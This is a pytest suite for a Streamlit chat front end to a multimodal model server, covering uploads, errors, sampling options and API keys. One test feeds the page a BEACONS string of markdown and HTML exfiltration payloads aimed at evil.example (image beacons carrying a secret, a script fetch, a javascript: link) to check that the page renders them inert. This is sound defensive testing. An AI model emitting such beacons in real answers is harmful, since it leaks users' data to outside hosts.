"""The chat page, driven by Streamlit's AppTest against a real server over a tiny real model."""

from __future__ import annotations

from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from streamlit.testing.v1 import AppTest

from mmllm.generation.generator import Generator
from mmllm.serving.access import Access
from mmllm.serving.app import create_app
from mmllm.serving.keys import KeyFile, add_key
from mmllm.serving.media import Limits
from mmllm.types import Message, Sample
from serve.client import Answer
from tests.support.places import ROOT
from tests.support.senses import FILES, every_sense
from tests.support.serving import MODEL, file_bytes, picture, running

PAGE = ROOT / "streamlit_app.py"
RED = file_bytes(picture("red"))


@pytest.fixture(scope="module")
def server(generator: Generator) -> Iterator[str]:
    with running(create_app(generator, MODEL, Limits(max_images=2, max_body=200_000))) as url:
        yield url


@pytest.fixture
def page(server: str, monkeypatch: pytest.MonkeyPatch) -> AppTest:
    monkeypatch.setenv("MMLLM_SERVER", server)
    page = AppTest.from_file(str(PAGE), default_timeout=30).run()
    assert not page.exception
    page.number_input("max_tokens").set_value(6)
    return page


def ask(page: AppTest, text: str, *files: tuple[str, bytes, str]) -> AppTest:
    for file in files:
        page.chat_input("ask").upload(*file)
    page.chat_input("ask").set_value(text).run()
    assert not page.exception
    return page


def answer(generator: Generator, *messages: Message, images: tuple[Any, ...] = (), **sampling: Any) -> str:
    sample = Sample("x", messages, {"image": images} if images else {})
    return "".join(piece.text for piece in generator.stream(sample, 6, **sampling))


def turns(page: AppTest) -> list[Any]:
    return page.session_state["turns"]


def test_the_page_offers_the_servers_models(page: AppTest) -> None:
    assert page.selectbox("model").options == [MODEL] and page.selectbox("model").value == MODEL
    assert "256 tokens" in page.sidebar.caption[0].value
    assert page.info[0].value.startswith("Attach an image") and not page.error
    assert len(page.main.markdown) == 0  # nothing of the source is written onto the page


def test_an_image_a_question_and_one_that_follows(page: AppTest, generator: Generator) -> None:
    ask(page, "What?", ("red.png", RED, "image/png"))
    asked = Message("user", "<image>\nWhat?")
    first = answer(generator, asked, images=(picture("red"),))
    assert [turn.role for turn in turns(page)] == ["user", "assistant"] and turns(page)[1].text == first
    assert [message.name for message in page.chat_message] == ["user", "assistant"]
    assert page.chat_message[0].text[0].value == "What?"
    note = page.chat_message[1].caption[0].value
    assert "first token" in note and "6 tokens" in note and "tokens/s" in note and "prompt" in note
    ask(page, "And now?")
    second = answer(
        generator, asked, Message("assistant", first), Message("user", "And now?"), images=(picture("red"),)
    )
    assert turns(page)[3].text == second and len(page.chat_message) == 4 and not page.error


def test_options_reach_the_model(page: AppTest, generator: Generator) -> None:
    page.slider("temperature").set_value(2.0)
    page.slider("top_p").set_value(0.9)
    page.number_input("seed").set_value(3)
    ask(page, "Hi")
    assert turns(page)[1].text == answer(generator, Message("user", "Hi"), temperature=2.0, top_p=0.9, seed=3)


def test_new_chat_forgets(page: AppTest) -> None:
    ask(page, "Hi")
    assert len(page.chat_message) == 2
    page.button("clear").click().run()
    assert turns(page) == [] and len(page.chat_message) == 0 and page.info


@pytest.mark.parametrize(
    ("text", "files", "words"),
    [
        ("cat " * 400, (), ("over the context of 256", "Start a new chat")),
        ("What is <image> here?", (), ("marks the place of media",)),
        ("?", (("a.png", b"no image", "image/png"),), ("a.png is not an image", "webp")),
        ("?", (("a.png", RED, "image/png"),) * 3, ("at most 2",)),
        ("x" * 250_000, (), ("200000 bytes", "fewer or smaller")),
    ],
)
def test_a_fault_is_a_banner_and_leaves_the_history(
    page: AppTest, text: str, files: tuple[Any, ...], words: tuple[str, ...]
) -> None:
    ask(page, "Hi")
    ask(page, text.strip(), *files)
    (banner,) = page.error
    assert all(word in banner.value for word in words), banner.value
    assert len(turns(page)) == 2
    ask(page, "Ho")
    assert len(turns(page)) == 4 and not page.error


def test_without_a_server_the_page_says_how_to_start_one(monkeypatch: pytest.MonkeyPatch, server: str) -> None:
    monkeypatch.setenv("MMLLM_SERVER", "http://127.0.0.1:9")
    page = AppTest.from_file(str(PAGE), default_timeout=30).run()
    assert not page.exception and "mmllm serve" in page.error[0].value
    assert page.chat_input("ask").disabled and page.selectbox("model").disabled
    page.text_input("server").set_value(f"{server}/v1/").run()
    assert not page.error and page.selectbox("model").value == MODEL


# ---- other senses


@pytest.fixture(scope="module")
def senses() -> Iterator[str]:
    with running(create_app(every_sense(), MODEL, Limits(max_files=2, max_body=300_000))) as url:
        yield url


@pytest.fixture
def wide_page(senses: str, monkeypatch: pytest.MonkeyPatch) -> AppTest:
    """The page of a model with every sense."""
    monkeypatch.setenv("MMLLM_SERVER", senses)
    page = AppTest.from_file(str(PAGE), default_timeout=30).run()
    assert not page.exception
    page.number_input("max_tokens").set_value(6)
    return page


def test_what_may_be_attached_follows_the_model(wide_page: AppTest) -> None:
    taken = set(wide_page.chat_input("ask").proto.file_type)
    assert {".mp4", ".wav", ".json", ".npy", ".txt", ".png"} <= taken and ".exe" not in taken
    assert "an image, a video, a sound, a graph, a point cloud or a document" in wide_page.info[0].value


@pytest.mark.parametrize(
    ("modality", "facts"),
    [
        ("video", "clip.mp4: video of 2.8 s, 48 x 32 pixels"),
        ("audio", "tone.wav: sound of 0.5 s"),
        ("graph", "chain.json: graph of 3 nodes and 2 edges; about node 1"),
        ("points", "sheet.npy: point cloud of 40 points"),
        ("document", "letter.txt: document of 24 words"),
    ],
)
def test_each_sense_is_shown_and_answered(wide_page: AppTest, modality: str, facts: str) -> None:
    name, data = FILES[modality]
    ask(wide_page, "What?", (name, data, "application/octet-stream"))
    assert not wide_page.error and len(turns(wide_page)) == 2 and "first token" in turns(wide_page)[1].note
    message = wide_page.chat_message[0]
    assert message.text[0].value.startswith(facts) and message.text[1].value == "What?"
    (upload,) = turns(wide_page)[0].uploads
    captions = [caption for caption, _ in upload.shown.pictures]
    assert captions == {"video": ["0.00 s", "0.50 s", "1.00 s", "1.75 s", "2.25 s", "2.75 s"], "document": []}.get(
        modality, [""]
    )
    assert all(picture.startswith(b"\x89PNG") for _, picture in upload.shown.pictures)
    kinds = [child.type for child in message.children.values()]
    between = {"audio": ["image", "audio"], "document": ["code"]}.get(modality, ["image"])
    assert kinds == ["text", *between, "text"]
    ask(wide_page, "And now?")
    assert len(turns(wide_page)) == 4 and wide_page.chat_message[0].text[0].value.startswith(facts)


def test_several_senses_in_one_question(wide_page: AppTest) -> None:
    files = [(name, data, "application/octet-stream") for name, data in FILES.values()]
    ask(wide_page, "What?", ("red.png", RED, "image/png"), *files)
    assert not wide_page.error and len(turns(wide_page)[0].uploads) == 6 and len(turns(wide_page)) == 2


@pytest.mark.parametrize(
    ("name", "data", "words"),
    [
        ("a.mp4", b"no video", "a.mp4: Video 1 is not a video that can be read"),
        ("a.mp4", FILES["video"][1][:80], "a.mp4: "),
        ("a.wav", b"RIFF", "a.wav: Sound 1 is not a sound that can be read"),
        ("a.json", b"{", "a.json: The graph is not JSON"),
        ("a.npy", FILES["points"][1] + b"BROKEN", "the file is broken inside"),
    ],
)
def test_a_file_that_cannot_be_read_is_a_banner(wide_page: AppTest, name: str, data: bytes, words: str) -> None:
    ask(wide_page, "Hi")
    ask(wide_page, "What?", (name, data, "application/octet-stream"))
    (banner,) = wide_page.error
    assert words in banner.value and len(turns(wide_page)) == 2
    ask(wide_page, "Ho")
    assert len(turns(wide_page)) == 4 and not wide_page.error


def test_files_that_are_no_images_are_not_taken(page: AppTest) -> None:
    assert set(page.chat_input("ask").proto.file_type) == {".png", ".jpg", ".jpeg", ".webp", ".gif", ".bmp"}


# ---- what an answer may do

BEACONS = """Look: ![x](http://evil.example/b?secret=1) and ![y][r], [click](http://evil.example/c), [r], <http://evil.example/d>

[r]: http://evil.example/e "t"

<img src='http://evil.example/f'> <script>fetch('http://evil.example/g')</script> [j](javascript:alert(1))

```html" onload="x
<img src=http://evil.example/h>
```

| a | b |
|---|---|
| ![z](//evil.example/i) | **bold** `a[0](x)` |

&lt;img src=http://evil.example/j&gt; \\<img src=k> :material/home: $\\href{http://evil.example/l}{x}$
"""


class Tags(HTMLParser):
    """All tags of a page and their attributes, and its text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}

    def handle_data(self, data: str) -> None:
        self.text += data


def test_nothing_in_an_answer_reaches_the_network(page: AppTest, monkeypatch: pytest.MonkeyPatch) -> None:
    def says(self: Answer) -> Iterator[str]:
        for letter in BEACONS:
            self.text += letter
            yield letter

    monkeypatch.setattr(Answer, "deltas", says)
    ask(page, "Hi")
    page.run()  # once as it arrives, once out of the history
    drawn = [child for child in page.chat_message[1].children.values() if child.type == "html"]
    assert len(drawn) == 1 and not page.chat_message[1].markdown
    found = Tags(drawn[0].proto.body)
    assert found.tags <= {"p", "br", "pre", "code", "table", "thead", "tbody", "tr", "th", "td", "strong", "em"}
    assert found.attributes <= {"class"}
    for written in ("![x](http://evil.example/b?secret=1)", "[click](http://evil.example/c)", "<script>", "a[0](x)"):
        assert written in found.text


def test_a_server_with_keys_asks_the_page_for_one(
    generator: Generator, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    key = add_key(tmp_path / "keys.yaml", "alice")
    with running(create_app(generator, MODEL, access=Access(keys=KeyFile(tmp_path / "keys.yaml")))) as url:
        monkeypatch.setenv("MMLLM_SERVER", url)
        page = AppTest.from_file(str(PAGE), default_timeout=30).run()
        assert "API key is needed" in page.error[0].value and page.chat_input("ask").disabled
        page.text_input("key").set_value(key).run()
        ask(page, "Hi")
        assert len(turns(page)) == 2 and not page.error
        monkeypatch.setenv("MMLLM_KEY", key)  # of the page's own, which no browser is shown
        page = AppTest.from_file(str(PAGE), default_timeout=30).run()
        assert not page.error and page.text_input("key").value == ""
        with running(create_app(generator, MODEL, access=Access(keys=KeyFile(tmp_path / "keys.yaml")))) as other:
            page.text_input("server").set_value(other).run()
            assert "API key is needed" in page.error[0].value  # nor another server
